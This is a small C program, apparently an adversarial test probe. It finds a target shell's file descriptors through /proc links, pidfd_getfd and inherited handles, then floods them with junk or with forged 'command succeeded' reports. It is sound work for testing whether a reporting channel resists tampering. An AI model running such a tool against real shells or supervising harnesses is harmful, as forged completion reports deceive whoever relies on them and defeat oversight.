/* Looks for the way on which a shell reports, and floods it: flood-report nul|text|forged SHELL.
   Tries the shell's descriptors by their links, by copying them, and those that it inherited. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char junk[4096];
static ssize_t length = sizeof junk;

static void flood(int fd) {
  for (int i = 0; i < 8; i++)
    if (write(fd, junk, length) < 0) break;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  int shell = atoi(argv[2]);
  int forged = strcmp(argv[1], "forged") == 0;
  if (strcmp(argv[1], "text") == 0) memset(junk, 'x', sizeof junk);
  int pidfd = syscall(SYS_pidfd_open, shell, 0);
  for (int number = 0;; number = (number + 1) % 64) {
    if (forged) {
      /* As a shell says that a command ended well; both of its reports. */
      length = snprintf(junk, sizeof junk, "\2 %d 0 -%c/forged%c/%c", number, 0, 0, 0);
      if (number % 2) length = snprintf(junk, sizeof junk, "\1 %d 0 -", number);
    }
    for (int fd = 0; fd < 256; fd++) {
      char link[64], target[256];
      snprintf(link, sizeof link, "/proc/%d/fd/%d", shell, fd);
      ssize_t n = readlink(link, target, sizeof target - 1);
      if (n < 0) continue;
      target[n] = 0;
      /* Output is for anybody of this user to write to; a flood of it proves nothing. */
      if (strstr(target, "/out-") || strstr(target, "/err-") || strstr(target, "/dev/")) continue;
      int opened = open(link, O_WRONLY | O_NONBLOCK);
      if (opened >= 0) {
        flood(opened);
        close(opened);
      }
      int copied = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, fd, 0);
      if (copied >= 0) {
        flood(copied);
        close(copied);
      }
    }
    for (int fd = 3; fd < 256; fd++)
      if (fd != pidfd) flood(fd);
  }
}
